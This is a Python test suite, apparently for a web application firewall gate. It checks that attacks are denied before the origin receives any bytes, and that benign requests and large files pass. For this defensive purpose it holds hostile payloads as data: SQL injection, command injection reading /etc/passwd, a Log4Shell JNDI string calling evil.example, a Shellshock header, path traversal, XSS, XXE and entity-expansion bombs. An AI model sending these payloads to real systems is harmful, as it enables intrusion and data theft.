"""inspect.py -- attacks are stopped before the origin sees a byte; look-alikes and large files pass."""
import json
import os
import threading
import time

from lib.claims import claim, eventually, expect
from lib.client import chunked, request
from lib.gate import Gate, one_app
from lib.origin import Origin, answer
from lib.wire import Ended

FORM = "Content-Type: application/x-www-form-urlencoded"
JSON = "Content-Type: application/json"
XML = "Content-Type: application/xml"
SQL = "1' UNION SELECT username, password FROM users-- -"
SHELL = ";cat /etc/passwd"
JNDI = "${jndi:ldap://evil.example/a}"
EXCLUDED_PATH = "/comment"


def multipart(parts, boundary="xxBOUNDARYxx"):
    """(Content-Type line, body) of (name, file name or None, bytes)."""
    body = b""
    for name, file, data in parts:
        body += f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"'.encode()
        body += (
            f'; filename="{file}"\r\nContent-Type: application/octet-stream'.encode()
            if file
            else b""
        )
        body += b"\r\n\r\n" + data + b"\r\n"
    return (
        f"Content-Type: multipart/form-data; boundary={boundary}",
        body + f"--{boundary}--\r\n".encode(),
    )


def quoted(text):
    from urllib.parse import quote

    return quote(text, safe="")


@claim
def attacks_in_the_head_are_denied():
    attacks = [
        {"target": "/.git/config"},
        {"target": "/.env"},
        {"target": "/a?file=../../../../etc/passwd"},
        {"target": f"/a?q={quoted(SQL)}"},
        {"target": f"/a?x={quoted(JNDI)}"},
        {"target": f"/a?x=1{quoted(SHELL)}"},
        {"target": "/a?x=%7B%7B7*7%7D%7D%3Cscript%3Ealert(1)%3C/script%3E"},
        {"target": "/", "fields": [f"User-Agent: {JNDI}"]},
        {"target": "/", "fields": ["User-Agent: sqlmap/1.7"]},
        {"target": "/", "fields": ["User-Agent: () { :;}; /bin/bash -c id"]},
        {"target": "/", "fields": [f"Cookie: a={JNDI}"]},
        {"target": "/wp-config.php.bak"},
        {"target": "/cgi-bin/%%32%65%%32%65/etc/passwd"},
        {"target": "/a/..%2f..%2f..%2fetc/passwd"},
    ]
    with Origin() as origin, Gate(one_app(origin.url)) as gate:
        passed = []
        for attack in attacks:
            status = gate.ask(**attack).status
            if status not in (400, 403):
                passed.append((attack, status))
        expect(passed, [])
        expect(origin.received, b"")


@claim
def everyday_requests_pass():
    with Origin() as origin, Gate(one_app(origin.url)) as gate, gate.connect() as client:
        for target in (
            "/",
            "/index.html",
            "/search?q=select+a+table+from+ikea",
            "/it's-ok",
            "/a/b.php?id=17",
            "/.well-known/acme-challenge/abc",
            "/o'brien?name=O%27Brien",
            "/price?x=1%3C2",
            "/caf%C3%A9",
            "/wiki/SQL_injection",
            "/docs/how-to-select-a-union",
            "/a?next=https%3A%2F%2Ft.example%2Fb",
        ):
            expect(client.ask(target=target).status, 200, target)
        for body in (
            b"comment=I+love+it%2C+5+stars%21&name=O%27Neil",
            b"text=" + b"lorem+ipsum+" * 400,
        ):
            expect(client.ask("POST", "/comment", [FORM], body).status, 200, body[:40])
        expect(
            client.ask(
                "POST", "/api", [JSON], json.dumps({"q": "Tom & Jerry's <3"}).encode()
            ).status,
            200,
        )
        expect(
            client.ask("POST", "/api", [XML], b"<?xml version='1.0'?><a><b>c</b></a>").status, 200
        )
        kind, body = multipart(
            [("title", None, b"My holiday"), ("photo", "a.jpg", os.urandom(5000))]
        )
        expect(client.ask("POST", "/upload", [kind], body).status, 200)


BODIES = [
    (FORM, f"a=1&id={quoted(SQL)}".encode()),
    (FORM, f"a=1&id=8.8.8.8{quoted(SHELL)}".encode()),
    (JSON, json.dumps({"a": [1, {"id": SQL}]}).encode()),
    (JSON, json.dumps({"a": SQL}).replace("U", "\\u0055").encode()),
    (XML, f"<a><id>{SQL}</id></a>".encode()),
    multipart([("a", None, b"1"), ("id", None, SQL.encode())]),
    ("Content-Type: text/plain", json.dumps({"id": SQL}).encode()),
    ("X-No: type", f"id={quoted(SQL)}".encode()),
    ("Content-Type: image/png", json.dumps({"id": SQL}).encode()),
]


@claim
def attacks_in_bodies_are_denied_and_the_origin_sees_no_byte():
    passed = []
    with Origin() as origin, Gate(one_app(origin.url)) as gate:
        for kind, body in BODIES:
            status = gate.ask("POST", "/form", [kind], body).status
            if status != 403:
                passed.append((kind, body, status))
            with gate.connect() as client:
                client.send(
                    request("POST", "/form", [kind, "Transfer-Encoding: chunked"]),
                    chunked(*(body[i : i + 3] for i in range(0, len(body), 3))),
                )
                status = client.response().status
                if status != 403:
                    passed.append((kind, body, status, "chunked"))
        expect(passed, [])
        expect(origin.received, b"")


@claim
def a_body_is_held_until_it_is_whole():
    kind, body = BODIES[0]
    with Origin() as origin, Gate(one_app(origin.url)) as gate, gate.connect() as client:
        head = request("POST", "/form", [kind, f"Content-Length: {len(body)}"])
        client.send(head + body[:3], *[body[i : i + 1] for i in range(3, len(body))], pause=0.005)
        expect(client.response().status, 403)
        expect(
            origin.connections and origin.received,
            origin.connections and b"",
            "what the origin saw",
        )


@claim
def a_structured_body_over_the_window_is_413_and_names_the_exception():
    padding = "x" * 9000
    with Origin() as origin, Gate(one_app(origin.url, waf={"window": "8KiB"})) as gate:
        for kind, body in (
            (FORM, f"p={padding}&id={quoted(SQL)}".encode()),
            (JSON, json.dumps({"p": padding, "id": SQL}).encode()),
            (XML, f"<a><p>{padding}</p><id>{SQL}</id></a>".encode()),
            ("X-No: type", f"p={padding}&id={quoted(SQL)}".encode()),
        ):
            got = gate.ask("POST", "/form", [kind], body)
            assert got.status in (413, 403), f"{kind}: {got.status}"
            if "form" in kind or "json" in kind or "xml" in kind:
                expect(got.status, 413, kind)
                line = gate.logged("security", got.fields.get("x-request-id"))
                assert "window" in json.dumps(line) or "exception" in json.dumps(line), line
        expect(origin.received, b"")


@claim
def files_and_opaque_bodies_over_the_window_stream_on_unharmed():
    with Origin(lambda r: answer(200, b"%d" % len(r.body))) as origin, Gate(
        one_app(origin.url)
    ) as gate, gate.connect(timeout=20) as client:
        opaque = os.urandom(3000000)
        got = client.ask("POST", "/raw", ["Content-Type: application/octet-stream"], opaque)
        expect(got.text, str(len(opaque)))
        assert bytes(origin.requests[0].body) == opaque
        kind, body = multipart(
            [("title", None, b"t"), ("file", "a.bin", opaque), ("after", None, b"small")]
        )
        expect(client.ask("POST", "/upload", [kind], body).text, str(len(body)))
        assert bytes(origin.requests[1].body) == body


@claim
def an_attack_in_a_field_behind_a_large_file_cuts_both_sides():
    kind, body = multipart([("file", "a.bin", os.urandom(1000000)), ("id", None, SQL.encode())])
    ends = []

    def script(conn):
        head = conn.request_head()
        conn.body(head, "length", int(head.fields.get("content-length")))
        ends.append(head)

    with Origin(script=script) as origin, Gate(
        one_app(origin.url)
    ) as gate, gate.connect() as client:
        client.try_send(request("POST", "/upload", [kind], body))
        try:
            status = client.response().status
        except Ended:
            status = 0
        assert status in (0, 403), status
        eventually(lambda: ends, 3, "the end at the origin")
        assert not ends[0].complete, "the origin got the whole body"
        assert SQL.encode() not in origin.received, "the origin got the field"


@claim
def a_field_behind_a_large_file_that_is_clean_arrives():
    kind, body = multipart(
        [
            ("file", "a.bin", os.urandom(1000000)),
            ("x", None, b"clean"),
            ("file2", "b.bin", os.urandom(1000000)),
            ("y", None, b"also clean"),
        ]
    )
    with Origin() as origin, Gate(one_app(origin.url)) as gate:
        expect(gate.ask("POST", "/upload", [kind], body).status, 200)
        assert bytes(origin.requests[0].body) == body


@claim
def detect_mode_lets_pass_and_writes_down():
    with Origin() as origin, Gate(one_app(origin.url, waf={"mode": "detect"})) as gate:
        for attack in (
            {"target": "/.git/config"},
            {"method": "POST", "fields": [FORM], "body": BODIES[0][1]},
        ):
            got = gate.ask(**attack)
            expect(got.status, 200)
            line = gate.logged("security", got.fields.get("x-request-id"))
            expect((line["event"]["action"], line["waf"]["would"]), ("log", "deny"))
        expect(len(origin.requests), 2)
        expect(gate.ask(target="/a%zz").status, 400, "malformed requests are refused all the same")


@claim
def off_inspects_nothing():
    with Origin() as origin, Gate(one_app(origin.url, waf="off")) as gate:
        expect(gate.ask(target="/.git/config").status, 200)
        expect(gate.log("security"), [])


@claim
def the_option_detect_does_the_same():
    with Origin() as origin, Gate(start=False) as gate:
        gate.options = [
            "--upstream",
            origin.url,
            "--listen",
            f"127.0.0.1:{gate.port}",
            "--detect",
            "--admin",
            f"127.0.0.1:{gate.admin_port}",
            "--state",
            gate.path("state"),
        ]
        gate.start()
        expect(gate.ask(target="/.git/config").status, 200)


@claim
def modes_are_changed_while_it_runs():
    with Origin() as origin, Gate(one_app(origin.url)) as gate:
        expect(gate.ask(target="/.git/config").status, 403)
        expect(gate.ctl("mode", "shop", "detect").returncode, 0)
        expect(gate.ask(target="/.git/config").status, 200)
        expect(gate.ctl("mode", "shop", "off").returncode, 0)
        expect(gate.ask(target="/.git/config").status, 200)
        expect(gate.ctl("mode", "shop", "block").returncode, 0)
        expect(gate.ask(target="/.git/config").status, 403)
        assert gate.ctl("mode", "nosuch", "detect").returncode in (1, 2)
        assert gate.ctl("mode", "shop", "sideways").returncode in (1, 2)


def rule_of(gate, **asked):
    """(category, id) of the rule that denied."""
    got = gate.ask(**asked)
    expect(got.status, 403)
    return gate.logged("security", got.fields.get("x-request-id"))["rule"]


@claim
def exceptions_skip_by_rule_category_part_and_path():
    attack = {
        "method": "POST",
        "target": EXCLUDED_PATH,
        "fields": [FORM],
        "body": f"text={quoted(SQL)}&b=1".encode(),
    }
    elsewhere = {**attack, "target": "/elsewhere"}
    with Origin() as origin, Gate(one_app(origin.url)) as gate:
        rule = rule_of(gate, **attack)
        for skip, passes in (
            ([rule["id"]], None),
            ([rule["category"]], True),
            (["body"], True),
            (["arg:text"], True),
            (["arg:other"], False),
            (["all"], True),
            (["cookie:text"], False),
        ):
            exception = {"path": EXCLUDED_PATH, "skip": skip, "reason": "a test"}
            assert gate.reload(one_app(origin.url, exceptions=[exception])), skip
            status = gate.ask(**attack).status
            assert passes is None or (status == 200) == passes, f"{skip}: {status}"
            expect(gate.ask(**elsewhere).status, 403, f"{skip} elsewhere")
            expect(
                gate.ask(**{**attack, "target": "/comment/../comment;x/.git/config"}).status
                in (400, 403),
                True,
            )


@claim
def an_exception_ends_on_its_day_and_methods_bound_it():
    attack = {
        "method": "POST",
        "target": EXCLUDED_PATH,
        "fields": [FORM],
        "body": f"text={quoted(SQL)}".encode(),
    }
    base = {"path": EXCLUDED_PATH, "skip": ["all"], "reason": "a test"}
    with Origin() as origin, Gate(one_app(origin.url)) as gate:
        assert gate.reload(one_app(origin.url, exceptions=[{**base, "until": "2020-01-01"}]))
        expect(gate.ask(**attack).status, 403, "an expired one")
        assert gate.reload(one_app(origin.url, exceptions=[{**base, "until": "2199-01-01"}]))
        expect(gate.ask(**attack).status, 200)
        assert gate.reload(one_app(origin.url, exceptions=[{**base, "methods": ["PUT"]}]))
        expect(gate.ask(**attack).status, 403)


@claim
def an_exception_cannot_be_reached_by_an_odd_spelling():
    """It loosens, so every reading of the path must match it."""
    exception = {"path": "/free*", "skip": ["all"], "reason": "a test"}
    with Origin() as origin, Gate(one_app(origin.url, exceptions=[exception])) as gate:
        expect(gate.ask(target=f"/free?q={quoted(SQL)}").status, 200)
        for target in (
            "/free/../private",
            "/free%2f..%2fprivate",
            "/free\\..\\private",
            "/free/..;/private",
            "/free%252f..%252fprivate",
            "/free/%2e%2e/private",
        ):
            status = gate.ask(target=f"{target}?q={quoted(SQL)}").status
            assert status in (400, 403), f"{target}: {status}"


@claim
def own_rules_ask_for_path_method_host_header_and_address():
    rules = [
        {"name": "known", "path": "/admin*", "headers": {"X-Key": "secret*"}, "do": "allow"},
        {"name": "admin", "path": "/admin*", "do": "deny", "reason": "not for you"},
        {"name": "no-delete", "methods": ["DELETE"], "do": "deny"},
        {"name": "host", "host": "old.*", "do": "deny"},
        {"name": "bot", "headers": {"User-Agent": "*EvilBot*"}, "do": "deny"},
        {"name": "office", "path": "/office", "not_from": ["127.0.0.0/8"], "do": "deny"},
        {"name": "not-office", "path": "/nooffice", "from": ["127.0.0.0/8"], "do": "deny"},
        {"name": "slow", "path": "/slow", "do": "throttle"},
        {"name": "seen", "path": "/seen", "do": "log"},
    ]
    with Origin() as origin, Gate(one_app(origin.url, rules=rules)) as gate:
        cases = [
            ({"target": "/admin/x"}, 403),
            ({"target": "/admin/x", "fields": ["X-Key: secret-1"]}, 200),
            (
                {"target": "/x/../admin", "fields": ["X-Key: secret-1"]},
                403,
            ),  # allowed only when every reading is
            ({"target": "/other/admin"}, 200),
            ({"method": "DELETE", "target": "/a"}, 403),
            ({"method": "PUT", "target": "/a"}, 200),
            ({"host": "old.example"}, 403),
            ({"host": "OLD.example:80"}, 403),
            ({"host": "new.example"}, 200),
            ({"fields": ["User-Agent: the evilbot 1.0"]}, 403),
            ({"target": "/office"}, 200),
            ({"target": "/nooffice"}, 403),
            ({"target": "/slow"}, 429),
            ({"target": "/seen"}, 200),
            ({"target": "/plain"}, 200),
        ]
        wrong = []
        for asked, status in cases:
            got = gate.ask(**asked)
            if got.status != status:
                wrong.append((asked, got.status, status))
        expect(wrong, [])
        got = gate.ask(target="/admin")
        line = gate.logged("security", got.fields.get("x-request-id"))
        expect((line["waf"]["source"], line["event"]["reason"]), ("own_rule", "not for you"))


@claim
def an_allowing_rule_does_not_switch_inspection_off():
    rules = [{"path": "/*", "do": "allow"}]
    with Origin() as origin, Gate(one_app(origin.url, rules=rules)) as gate:
        expect(gate.ask(target="/.git/config").status, 403)


@claim
def crowdsec_rules_are_read_from_files():
    text = """
name: acme/no-teapots
description: "no teapots"
rules:
  - and:
      - {zones: [METHOD], match: {type: equals, value: PROPFIND}}
      - {zones: [URI], transform: [lowercase], match: {type: endsWith, value: /teapot}}
labels: {type: exploit, service: http, confidence: 3, spoofable: 0, behavior: "http:exploit", label: "Teapot"}
"""
    with Origin() as origin, Gate(one_app(origin.url), start=False) as gate:
        with open(gate.path("own.yaml"), "w", encoding="ascii") as out:
            out.write(text)
        gate.write(one_app(origin.url, waf={"packs": False, "rules": ["own.yaml"]}))
        gate.start()
        expect(rule_of(gate, method="PROPFIND", target="/x/TeaPot")["id"], "acme/no-teapots")
        expect(gate.ask("GET", "/x/teapot").status, 200)


@claim
def a_deny_is_a_page_for_people_and_a_problem_for_programs():
    with Origin() as origin, Gate(
        one_app(origin.url, page={"title": "The Shop", "contact": "help@t.example"})
    ) as gate:
        page = gate.ask(
            target="/.git/config", fields=["Accept: text/html,*/*;q=0.8", "User-Agent: Mozilla/5.0"]
        )
        expect((page.status, page.fields.get("content-type").split(";")[0]), (403, "text/html"))
        one = page.fields.get("x-request-id")
        assert (
            one in page.text and "help@t.example" in page.text and "The Shop" in page.text
        ), page.text
        assert "no-store" in (page.fields.get("cache-control") or "")
        problem = gate.ask(target="/.git/config", fields=["Accept: application/json"])
        expect(problem.fields.get("content-type").split(";")[0], "application/problem+json")
        told = json.loads(problem.text)
        expect(told["status"], 403)
        assert problem.fields.get("x-request-id") in json.dumps(told), told
        head = gate.ask("HEAD", "/.git/config")
        expect((head.status, bytes(head.body)), (403, b""))
        for got in (page, problem):
            assert "git" not in got.text.lower(), "the page tells which rule it was"


@claim
def a_page_of_ones_own_is_filled_in_safely():
    with Origin() as origin, Gate(one_app(origin.url), start=False) as gate:
        with open(gate.path("page.html"), "w", encoding="ascii") as out:
            out.write("<h1>Nope {{status}}</h1><p>{{id}}</p>")
        gate.write(one_app(origin.url, page={"file": "page.html"}))
        gate.start()
        got = gate.ask(
            target="/.git/config?<script>", fields=["Accept: text/html", "User-Agent: Mozilla/5.0"]
        )
        if got.status == 400:
            got = gate.ask(
                target="/.git/config", fields=["Accept: text/html", "User-Agent: Mozilla/5.0"]
            )
        expect(got.text.strip(), f"<h1>Nope 403</h1><p>{got.fields.get('x-request-id')}</p>")


@claim
def a_denied_client_keeps_its_connection_where_it_is_in_step():
    with Origin() as origin, Gate(one_app(origin.url)) as gate, gate.connect() as client:
        expect(client.ask(target="/.git/config").status, 403)
        expect(client.ask(target="/fine").text, "GET /fine 0")
        got = client.ask("POST", "/form", [FORM], BODIES[0][1])
        expect(got.status, 403)
        if got.fields.get("connection") != "close":
            expect(client.ask(target="/fine").text, "GET /fine 0")


@claim
def a_malformed_request_is_inspected_and_logged_all_the_same():
    with Origin() as origin, Gate(one_app(origin.url)) as gate, gate.connect() as client:
        client.send(
            b"GET /.git/config?a=1  HTTP/1.1\r\nHost: t.example\r\nUser-Agent: sqlmap/1.7\r\n\r\n"
        )
        got = client.response()
        expect(got.status, 400)
        one = got.fields.get("x-request-id")
        line = gate.logged("security", one)
        expect(line["waf"]["source"], "protocol")
        with gate.connect() as second:
            second.send(b"GET /.git/config HTTP/1.1\r\nHost: t.example\r\nX-A : b\r\n\r\n")
            got = second.response()
        line = gate.logged("security", got.fields.get("x-request-id"))
        assert "hidden-file" in json.dumps(line) or "embergate/" in json.dumps(
            line.get("waf", {})
        ), line
        expect(origin.received, b"")


@claim
def bombs_in_bodies_are_bounded():
    deep = b"[" * 50000 + b"]" * 50000
    many = b"&".join(b"a%d=b" % i for i in range(20000))
    entities = (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "'
        + b"x" * 100
        + b'">'
        + b"".join(b'<!ENTITY b%d "%b">' % (i, b"&b;" * 10) for i in range(9))
        + b"]><a>&b8;</a>"
    )
    external = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    parts = multipart([(f"f{i}", None, b"x") for i in range(5000)])
    with Origin() as origin, Gate(one_app(origin.url)) as gate:
        before = gate.memory()
        for kind, body in (
            (JSON, deep),
            (FORM, many),
            (XML, entities),
            (XML, external),
            parts,
            ("Content-Type: multipart/form-data", b"no boundary"),
            ("Content-Type: multipart/form-data; boundary=", b"--\r\n\r\n--"),
            ("Content-Type: multipart/form-data; boundary=x", b"--y\r\n\r\nnever its boundary"),
            (JSON, b'{"a": '),
            (JSON, b'{"a": "\xff\xfe"}'),
            (XML, b"<a><b></a>"),
            (FORM, b"%%%=%zz&&&=&"),
        ):
            started = time.monotonic()
            got = gate.ask("POST", "/form", [kind], body)
            assert got.status in (200, 400, 403, 413), f"{body[:30]}: {got.status}"
            assert (
                time.monotonic() - started < 3
            ), f"{body[:30]} took {time.monotonic() - started:.1f} s"
        assert gate.memory() - before < 100 << 20, "memory"
        assert b"root:" not in origin.received


@claim
def compressed_bodies_pass_as_opaque_or_are_looked_into():
    import gzip

    body = gzip.compress(b"id=" + quoted(SQL).encode())
    with Origin() as origin, Gate(one_app(origin.url)) as gate:
        got = gate.ask("POST", "/form", [FORM, "Content-Encoding: gzip"], body)
        assert got.status in (200, 403, 413, 415), got.status
        if got.status == 200:
            assert bytes(origin.requests[0].body) == body, "the body was changed"


@claim
def attacks_at_once_on_all_workers_are_all_denied():
    statuses = []
    with Origin() as origin, Gate(one_app(origin.url, {"workers": 4})) as gate:

        def some(n):
            with gate.connect() as client:
                for i in range(30):
                    attack = (i + n) % 2 == 0
                    target = f"/a?q={quoted(SQL)}" if attack else f"/a?q=fine{i}"
                    statuses.append((attack, client.ask(target=target).status))

        threads = [threading.Thread(target=some, args=(n,)) for n in range(12)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        wrong = [s for s in statuses if s not in ((True, 403), (False, 200))]
        expect((wrong, len(statuses)), ([], 360))
